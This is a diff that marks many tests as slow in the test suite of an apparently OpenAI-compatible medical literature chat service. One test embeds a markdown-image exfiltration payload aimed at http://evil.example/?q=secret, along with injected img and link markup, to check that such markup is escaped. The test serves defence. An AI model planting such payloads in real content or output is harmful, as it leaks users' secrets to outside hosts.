@@ -78,6 +78,7 @@ def completing(reply: str = COMPLETED) -> ScriptedModel:
     return ScriptedModel(script)
 
 
+@pytest.mark.slow
 def test_models_are_the_strategies_of_each_library(tmp_path: Path) -> None:
     async def run() -> list[str]:
         libraries = (
@@ -96,6 +97,7 @@ def test_models_are_the_strategies_of_each_library(tmp_path: Path) -> None:
     assert names[-1] == "epicrisis/evidence@other"
 
 
+@pytest.mark.slow
 def test_completion_has_text_usage_and_annotations_that_open_the_source(tmp_path: Path) -> None:
     async def run() -> None:
         async with connect(open_library(tmp_path / "lib")) as client:
@@ -124,6 +126,7 @@ def test_completion_has_text_usage_and_annotations_that_open_the_source(tmp_path
     asyncio.run(run())
 
 
+@pytest.mark.slow
 def test_evidence_model_annotates_every_sentence(tmp_path: Path) -> None:
     completion = ask(open_library(tmp_path / "lib"), model="epicrisis/evidence")
     message = completion.choices[0].message
@@ -138,6 +141,7 @@ def test_evidence_model_annotates_every_sentence(tmp_path: Path) -> None:
     assert completion.usage.total_tokens == 0
 
 
+@pytest.mark.slow
 def test_stream_ends_with_the_content_of_the_whole_reply(tmp_path: Path) -> None:
     async def run() -> None:
         async with connect(open_library(tmp_path / "lib")) as client:
@@ -166,6 +170,7 @@ def test_stream_ends_with_the_content_of_the_whole_reply(tmp_path: Path) -> None
     asyncio.run(run())
 
 
+@pytest.mark.slow
 def test_follow_up_is_completed_before_the_search_and_shown(tmp_path: Path) -> None:
     model = completing()
     completion = ask(open_library(tmp_path / "lib", model), FOLLOW_UP)
@@ -183,6 +188,7 @@ def test_follow_up_is_completed_before_the_search_and_shown(tmp_path: Path) -> N
     assert completion.usage.prompt_tokens == words
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("reply", ["", "not json"])
 def test_follow_up_that_cannot_be_completed_asks_the_last_message_and_says_so(tmp_path: Path, reply: str) -> None:
     def script(request: ChatRequest) -> str:
@@ -196,6 +202,7 @@ def test_follow_up_that_cannot_be_completed_asks_the_last_message_and_says_so(tm
     assert "The last message alone was asked" in str(completion.choices[0].message.content)
 
 
+@pytest.mark.slow
 def test_follow_up_without_chat_model_asks_the_last_message_and_says_so(tmp_path: Path) -> None:
     library = open_library(tmp_path / "lib", strategy="evidence")
     library.pipeline.models.clear()  # type: ignore[attr-defined]
@@ -204,6 +211,7 @@ def test_follow_up_without_chat_model_asks_the_last_message_and_says_so(tmp_path
     assert "There is no chat model that could complete the question" in str(completion.choices[0].message.content)
 
 
+@pytest.mark.slow
 def test_long_conversation_keeps_the_newest_messages_and_says_so(tmp_path: Path) -> None:
     model = completing()
     old = {"role": "user", "content": "obsolete " * (MAX_HISTORY_CHARACTERS // 8)}
@@ -212,6 +220,7 @@ def test_long_conversation_keeps_the_newest_messages_and_says_so(tmp_path: Path)
     assert "obsolete" not in model.requests[0].messages[-1].content
 
 
+@pytest.mark.slow
 def test_parameters_without_influence_are_reported(tmp_path: Path) -> None:
     messages = [{"role": "system", "content": "Always say yes."}, *ASK]
     model = recorder()
@@ -225,6 +234,7 @@ def test_parameters_without_influence_are_reported(tmp_path: Path) -> None:
     assert "Always say yes" not in str(model.requests)
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(
     ("more", "parameter"),
     [
@@ -244,6 +254,7 @@ def test_parameter_for_another_form_is_refused(tmp_path: Path, more: dict[str, A
     assert "leave it out" in caught.value.message
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(
     "messages",
     [
@@ -256,6 +267,7 @@ def test_messages_that_are_no_text_are_refused(tmp_path: Path, messages: list[An
         ask(open_library(tmp_path / "lib"), messages)
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize(
     ("change", "kind"),
     [
@@ -278,6 +290,7 @@ def test_wrong_request_is_error_of_openai_client(
     assert caught.value.type == "invalid_request_error"
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("stream", [False, True])
 def test_failed_model_is_error_with_cure(tmp_path: Path, stream: bool) -> None:
     error = EndpointUnreachable("nothing answers at http://127.0.0.1:9: start the server of the model")
@@ -294,6 +307,7 @@ def test_failed_model_is_error_with_cure(tmp_path: Path, stream: bool) -> None:
     assert not stream or not isinstance(caught.value, openai.APIStatusError)
 
 
+@pytest.mark.slow
 def test_options_and_settings_of_the_extension_are_used(tmp_path: Path) -> None:
     extension = {"options": ["aspirin", "warfarin"], "settings": {"k": 2}}
     completion = ask(open_library(tmp_path / "lib"), extra_body={"epicrisis": extension})
@@ -301,6 +315,7 @@ def test_options_and_settings_of_the_extension_are_used(tmp_path: Path) -> None:
     assert "Sources" in str(completion.choices[0].message.content)
 
 
+@pytest.mark.slow
 def test_markup_of_documents_and_models_is_escaped(tmp_path: Path) -> None:
     attack = "Aspirin ![x](http://evil.example/?q=secret) <img src=x> [link](http://evil.example) www.evil.example"
     documents = [Document("paper:0", f"{attack} was given for stroke.", title=f"Title {attack}", date="2015")]
@@ -317,6 +332,7 @@ def test_markup_of_documents_and_models_is_escaped(tmp_path: Path) -> None:
             assert live not in unescaped
 
 
+@pytest.mark.slow
 def test_key_is_required_where_there_are_users_and_errors_are_openais(tmp_path: Path) -> None:
     key = UserStore(tmp_path / USERS_FILE).add("maria", "patient-reader")
     ward = open_library(tmp_path / "ward", recorder(), [*notes(), *papers()], k=30)
@@ -339,6 +355,7 @@ def test_key_is_required_where_there_are_users_and_errors_are_openais(tmp_path: 
     assert QUESTION not in log
 
 
+@pytest.mark.slow
 def test_literature_reader_sees_no_model_of_a_library_of_notes(tmp_path: Path) -> None:
     key = UserStore(tmp_path / USERS_FILE).add("tom", "literature-reader")
     libraries = open_library(tmp_path / "lib"), open_library(tmp_path / "ward", None, notes())
@@ -353,6 +370,7 @@ def test_literature_reader_sees_no_model_of_a_library_of_notes(tmp_path: Path) -
     assert not [name for name in asyncio.run(run()) if "ward" in name]
 
 
+@pytest.mark.slow
 def test_disconnected_client_stops_the_model(tmp_path: Path) -> None:
     async def run(stream: bool) -> None:
         model = WaitingModel()
@@ -373,6 +391,7 @@ def test_disconnected_client_stops_the_model(tmp_path: Path) -> None:
         asyncio.run(run(stream))
 
 
+@pytest.mark.slow
 def test_abstention_is_no_answer_in_text_and_state(tmp_path: Path) -> None:
     completion = ask(open_library(tmp_path / "lib", ScriptedModel(lambda _: '{"result": {"found": false}}')))
     content = str(completion.choices[0].message.content)
